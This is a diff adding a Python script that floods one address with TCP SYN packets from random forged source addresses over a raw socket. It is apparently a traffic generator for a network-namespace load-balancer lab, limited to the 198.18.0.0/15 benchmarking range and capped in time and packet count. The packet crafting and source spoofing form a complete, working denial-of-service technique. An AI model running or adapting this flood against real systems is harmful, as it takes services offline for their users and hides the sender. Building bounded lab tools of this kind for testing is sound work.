@@ -1,0 +1,96 @@
+#!/usr/bin/env python3
+"""Bounded SYN flood for the namespace lab: TCP SYNs from random forged sources to one address.
+
+usage: synflood.py --dst 198.18.0.100 --dport 80 [--src-net 198.18.128.0/17] [--seconds S]
+                   [--count N] [--rate PPS]
+
+Run it inside the lab's client namespace (ip netns exec vsnat-client ...). Sources are drawn
+from --src-net, which must lie in 198.18.0.0/15 (the benchmarking range the lab owns, DESIGN.md
+section 5), and so must --dst. The default source network is routed nowhere in the lab: the
+real servers' SYN-ACKs reach the director and die there (no route), so nobody else sees them.
+Stops after --seconds or --count packets, whichever comes first (both bounded). Prints one
+line: packets sent, seconds, rate.
+"""
+
+import argparse
+import ipaddress
+import os
+import random
+import socket
+import struct
+import sys
+import time
+
+LAB_RANGE = ipaddress.ip_network("198.18.0.0/15")
+BATCH = 4096  # distinct prebuilt packets, sent round and round
+
+
+def checksum(data: bytes) -> int:
+    if len(data) % 2:
+        data += b"\0"
+    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
+    while total >> 16:
+        total = (total & 0xFFFF) + (total >> 16)
+    return ~total & 0xFFFF
+
+
+def syn(src: int, dst: int, sport: int, dport: int, seq: int) -> bytes:
+    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 5 << 4, 0x02, 64240, 0, 0)
+    pseudo = struct.pack("!IIBBH", src, dst, 0, socket.IPPROTO_TCP, len(tcp))
+    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
+    ip = struct.pack("!BBHHHBBHII", 0x45, 0, 20 + len(tcp), random.getrandbits(16), 0, 64,
+                     socket.IPPROTO_TCP, 0, src, dst)
+    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
+    return ip + tcp
+
+
+def main() -> int:
+    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
+    p.add_argument("--dst", required=True)
+    p.add_argument("--dport", type=int, required=True)
+    p.add_argument("--src-net", default="198.18.128.0/17")
+    p.add_argument("--seconds", type=float, default=5.0)
+    p.add_argument("--count", type=int, default=10_000_000)
+    p.add_argument("--rate", type=int, default=0, help="packets per second; 0: as fast as it goes")
+    a = p.parse_args()
+
+    dst = ipaddress.ip_address(a.dst)
+    net = ipaddress.ip_network(a.src_net)
+    if dst not in LAB_RANGE or not net.subnet_of(LAB_RANGE):
+        print(f"synflood: --dst and --src-net must be in {LAB_RANGE}", file=sys.stderr)
+        return 2
+    if not 0 < a.seconds <= 600 or not 0 < a.count <= 100_000_000 or not 0 < a.dport < 65536:
+        print("synflood: --seconds 0..600, --count 1..1e8, --dport 1..65535", file=sys.stderr)
+        return 2
+
+    rng = random.Random(os.getpid())
+    first, size = int(net.network_address), net.num_addresses
+    packets = [syn(first + rng.randrange(size), int(dst), rng.randrange(1024, 65536), a.dport,
+                   rng.getrandbits(32)) for _ in range(BATCH)]
+    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    target = (str(dst), 0)
+    sent = 0
+    t0 = time.monotonic()
+    deadline = t0 + a.seconds
+    while sent < a.count:
+        now = time.monotonic()
+        if now >= deadline:
+            break
+        if a.rate and sent > (now - t0) * a.rate:
+            time.sleep(0.001)
+            continue
+        for pkt in packets[: min(256, a.count - sent)]:
+            try:
+                s.sendto(pkt, target)
+                sent += 1
+            except (BlockingIOError, OSError):
+                pass  # the veth's queue is full: the flood is at its rate
+        packets = packets[256:] + packets[:256]
+    elapsed = time.monotonic() - t0
+    print(f"synflood: {sent} SYNs to {dst}:{a.dport} from {net} in {elapsed:.1f} s "
+          f"({sent / max(elapsed, 1e-9):.0f}/s)")
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
